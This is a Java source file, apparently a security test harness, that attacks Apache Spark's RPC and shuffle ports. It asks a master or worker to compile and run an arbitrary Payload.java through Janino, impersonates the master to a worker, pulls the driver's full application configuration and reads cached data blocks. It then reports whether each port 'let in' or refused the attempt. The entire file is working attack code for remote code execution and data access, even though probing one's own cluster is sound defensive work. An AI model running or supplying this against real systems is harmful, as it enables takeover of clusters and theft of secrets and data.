import java.net.URI;
import java.util.Arrays;
import org.apache.spark.SecurityManager;
import org.apache.spark.SparkConf;
import org.apache.spark.deploy.ApplicationDescription;
import org.apache.spark.deploy.Command;
import org.apache.spark.deploy.DeployMessages;
import org.apache.spark.deploy.DriverDescription;
import org.apache.spark.internal.config.package$;
import org.apache.spark.network.TransportContext;
import org.apache.spark.network.client.TransportClient;
import org.apache.spark.network.client.TransportClientBootstrap;
import org.apache.spark.network.client.TransportClientFactory;
import org.apache.spark.network.crypto.AuthClientBootstrap;
import org.apache.spark.network.netty.SparkTransportConf;
import org.apache.spark.network.server.NoOpRpcHandler;
import org.apache.spark.network.shuffle.protocol.OpenBlocks;
import org.apache.spark.network.util.TransportConf;
import org.apache.spark.resource.ResourceProfile$;
import org.apache.spark.rpc.RpcAddress;
import org.apache.spark.rpc.RpcEndpointRef;
import org.apache.spark.rpc.RpcEnv;
import org.apache.spark.scheduler.cluster.CoarseGrainedClusterMessages;
import scala.Option;
import scala.collection.immutable.Map$;
import scala.collection.immutable.Nil$;
import scala.collection.immutable.Seq;
import scala.jdk.javaapi.CollectionConverters;
import scala.reflect.ClassTag$;

/**
 * Attacks Spark's ports the way a stranger on this machine would: its own class on the cluster, and a look inside.
 * Arguments: Payload.java, a folder for proofs, the master's URL, then for each attack KIND HOST PORT.
 * Prints a line for each, "KIND PORT let in" or "KIND PORT refused: ..."; spark.* properties are its own settings.
 */
public class Intruder {
    static final SparkConf CONF = new SparkConf();
    static final SecurityManager SECURITY =
        new SecurityManager(CONF, Option.empty(), package$.MODULE$.AUTH_SECRET_FILE());

    public static void main(String[] arguments) throws Exception {
        RpcEnv rpc = RpcEnv.create("intruder", "127.0.0.1", 0, CONF, SECURITY, true);
        for (int at = 3; at < arguments.length; at += 3) {
            String kind = arguments[at];
            String host = arguments[at + 1];
            int port = Integer.parseInt(arguments[at + 2]);
            String outcome;
            try {
                attack(rpc, kind, host, port, arguments[0], arguments[1] + "/" + kind, arguments[2]);
                outcome = "let in";
            } catch (Throwable refused) {
                StringBuilder said = new StringBuilder("refused:");
                for (Throwable cause = refused; cause != null; cause = cause.getCause()) {
                    said.append(" ").append(String.valueOf(cause.getMessage()).split("\n")[0]);
                }
                outcome = said.toString();
            }
            System.out.println(kind + " " + port + " " + outcome);
        }
        System.exit(0);
    }

    static void attack(RpcEnv rpc, String kind, String host, int port, String payload, String proof, String master)
            throws Exception {
        if (kind.equals("master")) { // has the master start a "driver" on any worker
            DriverDescription driver =
                new DriverDescription("file://" + payload, 64, 0, false, command(payload, proof), seq(new Object[0]));
            DeployMessages.SubmitDriverResponse answer = (DeployMessages.SubmitDriverResponse) endpoint(
                rpc, host, port, "Master").askSync(new DeployMessages.RequestSubmitDriver(driver), tag());
            if (!answer.success()) {
                throw new IllegalStateException(answer.message());
            }
        } else if (kind.equals("worker")) { // tells the worker itself, in the master's name
            ApplicationDescription application = new ApplicationDescription(
                "intruder", Option.empty(), command(payload, proof), "",
                ResourceProfile$.MODULE$.getOrCreateDefaultProfile(CONF), Option.empty(), Option.empty(),
                Option.empty(), "nobody");
            endpoint(rpc, host, port, "Worker").send(new DeployMessages.LaunchExecutor(
                master, "app-intruder", 0, 0, application, 1, 64, Map$.MODULE$.empty()));
        } else if (kind.equals("driver")) { // the whole configuration, as an executor is given it
            endpoint(rpc, host, port, "CoarseGrainedScheduler").askSync(
                new CoarseGrainedClusterMessages.RetrieveSparkAppConfig(0), tag());
        } else { // "blocks": data that driver and executors hold
            TransportConf conf = SparkTransportConf.fromSparkConf(CONF, "shuffle", 1, Option.empty(), Option.empty());
            TransportContext context = new TransportContext(conf, new NoOpRpcHandler());
            TransportClientBootstrap[] login = CONF.getBoolean("spark.authenticate", false)
                ? new TransportClientBootstrap[] {new AuthClientBootstrap(conf, "intruder", SECURITY)}
                : new TransportClientBootstrap[0];
            TransportClientFactory clients = context.createClientFactory(Arrays.asList(login));
            TransportClient client = clients.createClient(host, port);
            client.sendRpcSync(new OpenBlocks("intruder", "0", new String[] {"rdd_0_0"}).toByteBuffer(), 120000);
        }
    }

    static RpcEndpointRef endpoint(RpcEnv rpc, String host, int port, String name) {
        return rpc.setupEndpointRef(new RpcAddress(host, port), name);
    }

    static scala.reflect.ClassTag tag() {
        return ClassTag$.MODULE$.apply(Object.class);
    }

    /** Compiles and runs Payload.java with the compiler among Spark's own jars. */
    static Command command(String payload, String proof) {
        Seq none = seq(new Object[0]);
        return new Command("org.codehaus.janino.SimpleCompiler", seq(new Object[] {payload, "Payload", proof}),
            Map$.MODULE$.empty(), none, none, none);
    }

    static Seq seq(Object[] items) {
        return CollectionConverters.asScala(Arrays.asList(items)).toSeq();
    }
}
